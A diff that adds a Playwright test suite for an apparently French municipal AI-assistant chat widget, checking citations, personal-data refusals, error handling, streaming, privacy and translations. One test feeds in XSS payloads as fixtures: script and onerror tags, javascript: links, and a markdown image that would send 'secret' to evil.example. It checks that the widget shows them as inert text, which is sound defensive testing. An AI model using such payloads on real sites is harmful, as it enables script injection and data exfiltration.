@@ -1,0 +1,489 @@
+"""What a resident can do with the widget, in a real browser, under the strictest content policy."""
+
+from __future__ import annotations
+
+import gzip
+import json
+import re
+
+import pytest
+from playwright.sync_api import expect
+
+from .double import WIDGET, Widget, answer, citation, events, refusal
+
+
+def test_it_weighs_at_most_ten_kilobytes() -> None:
+    assert len(gzip.compress(WIDGET.read_bytes(), 9)) <= 10_000
+
+
+def test_the_quote_is_marked_in_its_passage(widget: Widget) -> None:
+    # 𝟏 is one code point and two UTF-16 units: counted wrong, the mark would slip by one.
+    widget.visit().open().ask()
+    button = widget.page.get_by_role(
+        "button",
+        name="Voir le passage 1 : Convention d’adhésion au programme Petites villes de demain",
+    )
+    expect(button).to_have_attribute("aria-expanded", "false")
+    button.click()
+    expect(button).to_have_attribute("aria-expanded", "true")
+    assert widget.text("mark >> nth=0") == citation()["quote"]
+    card = widget.page.locator("assistant-pvd details.citation").first
+    expect(card.locator("blockquote")).to_have_text(citation()["passage"])
+    told = card.inner_text()
+    assert "Citation · Ville de Guichen Pont-Réan · 12 mai 2021" in told
+    assert "Convention › Article 1" in told
+    assert "page 12" in told
+    opened = card.get_by_role("link", name="Ouvrir le document")
+    assert opened.get_attribute("href") == "https://www.exemple.fr/convention.pdf#page=12"
+    assert opened.get_attribute("rel") == "noopener noreferrer"
+    expect(opened).to_have_accessible_name(re.compile(r"\(nouvelle fenêtre\)$"))
+    button.click()
+    expect(button).to_have_attribute("aria-expanded", "false")
+
+
+def test_a_summary_names_its_sources(widget: Widget) -> None:
+    widget.visit().open().ask()
+    widget.page.get_by_role("button", name="Voir le passage 2").click()
+    card = widget.page.locator("assistant-pvd details.citation").nth(1)
+    told = (card.text_content() or "").replace("\u00a0", " ")
+    assert "Résumé établi par nos soins d’après : ANCT, La Gazette · novembre 2026" in told
+    assert "– ANCT : lancement du programme (nouvelle fenêtre), 1er octobre 2020" in told
+    assert "– La Gazette : Guichen retenue (presse), décembre 2020" in told
+    assert card.get_by_role("link").count() == 1
+
+
+def test_a_misplaced_quote_is_not_marked(widget: Widget) -> None:
+    widget.double.says(answer(citations=[citation(start=3), citation(2)]))
+    widget.visit().open().ask()
+    widget.page.get_by_role("button", name="Voir le passage 1").click()
+    expect(widget.page.locator("assistant-pvd details").nth(1).locator("mark")).to_have_count(0)
+
+
+def test_all_of_the_text_is_shown(widget: Widget) -> None:
+    # Words of the text that are in no sentence stand where the text has them.
+    text = "Ce n’est pas publié.\n\nLa date est inconnue. Demandez à la mairie."
+    widget.double.says(answer(("La date est inconnue.", [1]), text=text, outcome="not_published"))
+    widget.visit().open().ask()
+    assert widget.text(".text").replace("\u00a0", " ") == (
+        "Ce n’est pas publié.\n\nLa date est inconnue.1 Demandez à la mairie."
+    )
+    assert widget.text(".answer .who >> nth=1") == "Ce n’est pas publié"
+
+
+def test_a_refusal_names_who_to_ask_and_sets_the_nearest_apart(widget: Widget) -> None:
+    widget.double.says(refusal())
+    widget.visit().open().ask()
+    node = widget.page.locator("assistant-pvd .answer")
+    told = (node.text_content() or "").replace("\u00a0", " ")
+    assert "Je ne peux pas traiter de données personnelles." in told
+    assert "À qui s’adresser : Accueil de la mairie (nouvelle fenêtre)" in told
+    assert "02 99 00 00 00" in told
+    assert "Passages proches, qui ne répondent pas à la question :" in told
+    near = widget.page.locator("assistant-pvd .answer details")
+    expect(near).to_have_count(1)
+    assert near.get_attribute("open") is None
+    expect(near.locator("mark")).to_have_count(0)
+    assert node.get_attribute("data-outcome") == "refused_personal_data"
+    assert node.get_attribute("data-ai-generated") == "true"
+
+
+def test_the_turns_before_go_with_the_question(widget: Widget) -> None:
+    widget.visit().open().ask("Une première question ?").ask("Et ensuite ?")
+    first, second = widget.double.asked
+    assert (first["question"], first["history"]) == ("Une première question ?", [])
+    assert second["history"] == [
+        {"role": "user", "content": "Une première question ?"},
+        {"role": "assistant", "content": answer()["text"]},
+    ]
+
+
+def test_personal_data_does_not_travel_twice(widget: Widget) -> None:
+    widget.double.says(refusal())
+    widget.visit().open().ask("Je m’appelle Jeanne Martin").ask("Et ensuite ?")
+    assert widget.double.asked[1]["history"] == []
+
+
+def test_at_most_ten_turns_of_500_characters_are_sent(widget: Widget) -> None:
+    widget.double.says(answer(("é" * 600, [])))
+    widget.visit().open()
+    for turn in range(7):
+        widget.ask(f"Question {turn}")
+    history = widget.double.asked[-1]["history"]
+    assert len(history) == 10
+    assert history[0] == {"role": "user", "content": "Question 1"}
+    assert history[1] == {"role": "assistant", "content": "é" * 500}
+
+
+def test_a_new_conversation_forgets_the_last(widget: Widget) -> None:
+    widget.visit().open().ask()
+    widget.page.get_by_role("button", name="Nouvelle conversation").click()
+    expect(widget.page.locator("assistant-pvd li")).to_have_count(0)
+    assert widget.focused() == "textarea.field"
+    widget.ask("Et ensuite ?")
+    assert widget.double.asked[-1]["history"] == []
+
+
+def test_the_request_carries_nothing_about_the_visitor(widget: Widget) -> None:
+    widget.page.context.add_cookies([{"name": "a", "value": "b", "url": widget.double.url}])
+    widget.visit().open().ask()
+    headers = widget.double.asked[0]["headers"]
+    assert "cookie" not in headers
+    assert headers["referer"] == f"{widget.double.url}/"  # the origin alone
+    assert headers["accept"] == "text/event-stream"
+
+
+@pytest.mark.parametrize("status", [422, 429, 503])
+def test_an_error_shows_its_reason_and_keeps_the_question(widget: Widget, status: int) -> None:
+    detail = "Trop de questions à la fois."
+    body = {"type": "about:blank", "title": "Erreur", "status": status, "detail": detail}
+    widget.double.sends(status, "application/problem+json", body)
+    widget.visit().open()
+    heard = widget.page.evaluate_handle(
+        "() => { const all = []; document.addEventListener('pvd-error', (event) => "
+        "all.push(event.detail)); return all }"
+    )
+    widget.send("Une question ?")
+    alert = widget.page.get_by_role("alert")
+    expect(alert).to_have_text("Trop de questions à la fois. Votre question est gardée ci-dessous.")
+    assert widget.page.get_by_label("Votre question").input_value() == "Une question ?"
+    expect(widget.page.locator("assistant-pvd li")).to_have_count(0)
+    assert heard.json_value() == [{"status": status}]
+
+
+@pytest.mark.parametrize(
+    ("content_type", "body"),
+    [
+        ("text/html", "<h1>502 Bad Gateway</h1>"),  # a proxy's own page
+        ("application/json", {"detail": [{"loc": ["body"]}]}),  # a framework's own error
+    ],
+)
+def test_an_error_without_a_sentence_gets_ours(
+    widget: Widget, content_type: str, body: object
+) -> None:
+    widget.double.sends(502, content_type, body)
+    widget.visit().open().send()
+    expect(widget.page.get_by_role("alert")).to_contain_text("indisponible pour le moment")
+
+
+def test_an_error_in_the_stream_is_told(widget: Widget) -> None:
+    problem = json.dumps({"status": 503, "detail": "La recherche a échoué."})
+    widget.double.streams(f"event: error\ndata: {problem}\n\n".encode())
+    widget.visit().open().send()
+    expect(widget.page.get_by_role("alert")).to_contain_text("La recherche a échoué.")
+
+
+def test_a_network_failure_keeps_the_question(widget: Widget) -> None:
+    widget.visit().open()
+    widget.page.route("**/api/**", lambda route: route.abort())
+    widget.send("Une question ?")
+    expect(widget.page.get_by_role("alert")).to_contain_text("L’assistant n’a pas pu être joint.")
+    assert widget.page.get_by_label("Votre question").input_value() == "Une question ?"
+    widget.page.unroute("**/api/**")
+    widget.page.keyboard.press("Enter")
+    widget.page.get_by_role("button", name="Copier").wait_for()
+    assert widget.text(".alert") == ""
+
+
+def test_silence_ends_the_wait(widget: Widget) -> None:
+    widget.double.streams(b": ping\n\n", holds=True)
+    widget.page.clock.install()
+    widget.visit().open().send()
+    expect(widget.page.get_by_role("button", name="Arrêter")).to_be_visible()
+    assert widget.double.left.wait(0.2) is False
+    widget.page.clock.run_for(45_500)
+    expect(widget.page.get_by_role("alert")).to_contain_text("trop de temps")
+    assert widget.double.left.wait(5)
+
+
+def test_a_cut_stream_keeps_what_was_shown_and_says_so(widget: Widget) -> None:
+    whole = events(answer())
+    widget.double.streams(whole[: whole.index(b"event: done")])
+    widget.visit().open().send("Une question ?")
+    expect(widget.page.get_by_role("alert")).to_contain_text("interrompue avant la fin")
+    assert "La convention d’adhésion a été signée" in widget.text(".answer")
+    assert widget.page.get_by_label("Votre question").input_value() == "Une question ?"
+
+
+def test_stop_ends_the_request(widget: Widget) -> None:
+    whole = events(answer())
+    widget.double.streams(whole[: whole.index(b"event: done")], holds=True)
+    widget.visit().open().send()
+    expect(widget.page.locator("assistant-pvd .text")).to_contain_text("signée")
+    stop = widget.page.get_by_role("button", name="Arrêter")
+    stop.focus()
+    widget.page.keyboard.press("Enter")
+    expect(stop).to_be_hidden()
+    assert widget.double.left.wait(5)
+    assert widget.text(".answer").endswith("Réponse arrêtée.")
+    assert widget.focused() == "textarea.field"
+    expect(widget.page.get_by_role("alert")).to_have_text("")
+    widget.double.says(answer())
+    widget.ask("Et ensuite ?")
+    assert widget.double.asked[-1]["history"] == []
+
+
+@pytest.mark.parametrize("every", [1, 11, 64])
+def test_bytes_may_be_cut_anywhere(widget: Widget, every: int) -> None:
+    # 11 bytes fall within names, within JSON and within é (two bytes) and 𝟏 (four).
+    widget.double.says(answer(), every=every)
+    widget.visit().open().ask()
+    assert "La convention d’adhésion a été signée le 12 mai 2021." in widget.text(".text")
+    widget.page.get_by_role("button", name="Voir le passage 1").click()
+    assert widget.text("mark >> nth=0") == citation()["quote"]
+
+
+def test_crlf_and_a_json_body_are_understood(widget: Widget) -> None:
+    widget.double.streams(events(answer()).replace(b"\n", b"\r\n"), every=11)
+    widget.visit().open().ask()
+    widget.double.sends(200, "application/json; charset=utf-8", answer())
+    widget.ask("Et ensuite ?")
+    first, second = widget.page.locator("assistant-pvd .text").all_inner_texts()
+    assert first == second
+
+
+def test_a_replacement_replaces_what_was_shown(widget: Widget) -> None:
+    final = answer(("Seule la signature est datée.", [1]))
+    begun = events(answer())
+    replace = {"sentences": final["sentences"]}
+    widget.double.streams(
+        begun[: begun.index(b"event: done")]
+        + f"event: replace\ndata: {json.dumps(replace)}\n\n".encode()
+        + events(final)[events(final).index(b"event: done") :]
+    )
+    widget.visit().open().ask()
+    assert widget.text(".text") == "Seule la signature est datée.1"
+
+
+HOSTILE = '<img src=x onerror="window.hurt=1"><script>window.hurt=1</script>'
+
+
+def test_a_hostile_answer_is_only_text(widget: Widget) -> None:
+    text = f"{HOSTILE} ![i](https://evil.example/p.gif?d=secret) [clic](javascript:alert(1))"
+    bad = citation(
+        title=HOSTILE, publisher=HOSTILE, passage=HOSTILE, url="javascript:window.hurt=1"
+    )
+    source = {
+        "publisher": HOSTILE,
+        "title": HOSTILE,
+        "url": " javascript:window.hurt=1",
+        "date": HOSTILE,
+        "licence": "",
+        "nature": HOSTILE,
+    }
+    bad_summary = citation(2, kind="summary", sources=[source], url="data:text/html,x")
+    widget.double.says(
+        answer(
+            (text, [1, 2]),
+            citations=[bad, bad_summary],
+            nearest=[bad],
+            contact={
+                "name": HOSTILE,
+                "url": "javascript:window.hurt=1",
+                **dict.fromkeys(["phone", "email", "address", "hours"], HOSTILE),
+            },
+        )
+    )
+    requests: list[str] = []
+    widget.visit().open()
+    widget.page.on("request", lambda request: requests.append(request.url))
+    widget.ask()
+    for button in widget.page.get_by_role("button", name="Voir le passage").all():
+        button.click()
+    panel = widget.page.locator("assistant-pvd .panel")
+    expect(panel.locator("img, script, a")).to_have_count(0)
+    assert widget.text(".text").startswith('<img src=x onerror="window.hurt=1">')
+    assert widget.page.evaluate("window.hurt") is None
+    assert requests == [f"{widget.double.url}/api/v1/answers"]
+
+
+def test_nothing_is_stored_and_no_other_host_is_called(widget: Widget) -> None:
+    stored = """async () => JSON.stringify([{...localStorage}, {...sessionStorage},
+      document.cookie, await caches.keys(), await indexedDB.databases()])"""
+    hosts: set[str] = set()
+    widget.page.on("request", lambda request: hosts.add(request.url.split("/")[2]))
+    widget.visit()
+    before = widget.page.evaluate(stored)
+    widget.open().ask()
+    widget.page.get_by_role("button", name="Voir le passage 1").click()
+    assert before == widget.page.evaluate(stored) == '[{},{},"",[],[]]'
+    assert hosts == {widget.double.url.removeprefix("http://")}
+
+
+def test_a_page_may_include_the_script_twice(widget: Widget) -> None:
+    widget.visit(twice="1").open().ask()
+    expect(widget.page.get_by_role("dialog")).to_have_count(1)
+
+
+def test_without_script_the_link_of_the_page_is_there(widget: Widget) -> None:
+    widget.page.route("**/assistant-pvd.js", lambda route: route.abort())
+    widget.page.goto(widget.double.url)
+    expect(widget.page.get_by_role("link", name="Poser une question")).to_be_visible()
+
+
+def test_methods_events_and_openers(widget: Widget) -> None:
+    widget.visit()
+    heard = widget.page.evaluate_handle(
+        """() => {
+          const all = []
+          for (const name of ['ready', 'open', 'close', 'answer', 'error']) {
+            document.addEventListener('pvd-' + name, (event) => all.push([name, event.detail]))
+          }
+          return all
+        }"""
+    )
+    opener = widget.page.get_by_role("button", name="Une question ?")
+    opener.click()
+    expect(widget.page.get_by_role("dialog")).to_be_visible()
+    element = widget.page.locator("assistant-pvd")
+    element.evaluate("(element) => element.close()")
+    expect(opener).to_be_focused()
+    element.evaluate("(element) => element.ask('Quand ?')")
+    widget.page.get_by_role("button", name="Copier").wait_for()
+    element.evaluate("(element) => { element.reset(); element.close() }")
+    expect(widget.page.get_by_role("dialog")).to_be_hidden()
+    assert heard.json_value() == [
+        ["open", None],
+        ["close", None],
+        ["open", None],
+        ["answer", {"id": "a1", "outcome": "answered"}],
+        ["close", None],
+    ]
+
+
+def test_it_can_be_hidden(widget: Widget) -> None:
+    widget.visit("hidden")
+    expect(widget.page.locator("assistant-pvd .launcher")).to_be_hidden()
+
+
+def test_it_can_stand_in_the_page(widget: Widget) -> None:
+    widget.visit("mode=inline")
+    expect(widget.page.get_by_role("dialog")).to_have_count(0)
+    widget.ask()
+    assert "signée le 12 mai 2021" in widget.text(".text")
+
+
+def test_the_length_of_a_question_is_counted_near_its_end(widget: Widget) -> None:
+    widget.visit().open()
+    field = widget.page.get_by_label("Votre question")
+    field.fill("a" * 400)
+    assert widget.text(".left") == ""
+    field.fill("a" * 401)
+    assert widget.text(".left").replace("\u00a0", " ") == "Caractères restants : 99"
+    assert field.get_attribute("maxlength") == "500"
+    field.press("Enter")
+    assert widget.text(".left") == ""
+
+
+def test_a_new_answer_is_read_from_its_question_on(widget: Widget) -> None:
+    widget.double.says(answer(("Une longue phrase. " * 60, [1])))
+    widget.visit().open().ask("Une première question ?").ask("Quand ?")
+    tops = widget.page.evaluate(
+        """() => {
+          const root = document.querySelector('assistant-pvd').shadowRoot
+          const top = (selector) =>
+            [...root.querySelectorAll(selector)].at(-1).getBoundingClientRect().top
+          return [Math.floor(top('.question') - top('.log')),
+            root.querySelector('.panel').scrollTop, window.scrollY]
+        }"""
+    )
+    assert tops == [0, 0, 0]  # and neither the panel's header nor the page has moved
+
+
+def test_an_empty_question_is_not_sent(widget: Widget) -> None:
+    widget.visit().open().send("   ")
+    expect(widget.page.get_by_role("alert")).to_have_text(
+        "Écrivez votre question, puis envoyez-la."
+    )
+    assert widget.double.asked == []
+
+
+def test_enter_that_ends_a_composition_does_not_send(widget: Widget) -> None:
+    widget.visit().open()
+    field = widget.page.get_by_label("Votre question")
+    field.fill("日本")
+    for how in ("isComposing: true", "keyCode: 229"):
+        field.evaluate(
+            "(field) => field.dispatchEvent(new KeyboardEvent('keydown', "
+            f"{{ key: 'Enter', bubbles: true, {how} }}))"
+        )
+    field.press("Shift+Enter")
+    assert field.input_value() == "日本\n"
+    assert widget.double.asked == []
+
+
+def test_copying_takes_the_sources_along(widget: Widget) -> None:
+    widget.page.context.grant_permissions(["clipboard-read", "clipboard-write"])
+    widget.visit().open().ask("Quand ?")
+    widget.page.get_by_role("button", name="Copier").click()
+    expect(widget.page.locator("assistant-pvd .tools .small")).to_have_text("Réponse copiée.")
+    told = widget.page.evaluate("navigator.clipboard.readText()").replace("\u00a0", " ")
+    assert told.startswith("Quand ?\n")
+    assert "La convention d’adhésion a été signée le 12 mai 2021. [1]" in told
+    assert f"« {citation()['quote']} »" in told
+    assert "https://www.exemple.fr/convention.pdf#page=12" in told
+    assert "https://agence.exemple.fr/pvd" in told
+    assert "Réponse d’un assistant automatique (IA), à vérifier." in told
+    assert "Copier" not in told
+
+
+def test_copying_says_when_it_cannot(widget: Widget) -> None:
+    widget.visit().open().ask()
+    widget.page.evaluate("Object.defineProperty(navigator, 'clipboard', { value: undefined })")
+    widget.page.get_by_role("button", name="Copier").click()
+    expect(widget.page.locator("assistant-pvd .tools .small")).to_contain_text("sélectionnez")
+
+
+def test_printing_puts_one_answer_on_paper(widget: Widget) -> None:
+    widget.page.add_init_script(
+        "window.print = () => { top.printed = document.body.innerText; "
+        "window.dispatchEvent(new Event('afterprint')) }"
+    )
+    widget.visit().open().ask("Une première question ?").ask("Quand ?")
+    widget.page.get_by_role("button", name="Imprimer").last.click()
+    widget.page.wait_for_function("window.printed")
+    told = widget.page.evaluate("window.printed")
+    assert told.startswith("Quand ?\n")
+    assert "Une première question ?" not in told
+    assert citation()["quote"] in told
+    expect(widget.page.locator("assistant-pvd iframe")).to_have_count(0)
+
+
+@pytest.mark.parametrize(
+    ("language", "title"),
+    [("fr", "Assistant automatique (IA)"), ("en-GB", "Automatic assistant (AI)")],
+)
+def test_it_speaks_the_language_of_the_page(widget: Widget, language: str, title: str) -> None:
+    widget.visit(lang=language)
+    widget.page.locator("assistant-pvd .launcher").click()
+    expect(widget.page.get_by_role("dialog", name=title)).to_be_visible()
+
+
+def test_every_string_is_in_both_languages() -> None:
+    source = WIDGET.read_text(encoding="utf-8")
+    french, english = (
+        set(
+            re.findall(
+                r"^    (\w+):",
+                source.split(f"  {language}: {{\n")[1].split("\n  },")[0],
+                re.MULTILINE,
+            )
+        )
+        for language in ("fr", "en")
+    )
+    assert french - english == set()
+    # In French, natures are as the corpus writes them.
+    assert english - french == {"presse", "reprise", "encyclopédie", "recherche"}
+
+
+def test_the_colours_of_the_town_are_taken(widget: Widget) -> None:
+    colour: str = (
+        widget.visit()
+        .page.locator("assistant-pvd")
+        .evaluate(
+            """(element) => {
+          element.style.setProperty('--pvd-accent', 'rgb(90, 20, 60)')
+          return getComputedStyle(element.shadowRoot.querySelector('.launcher')).backgroundColor
+        }"""
+        )
+    )
+    assert colour == "rgb(90, 20, 60)"
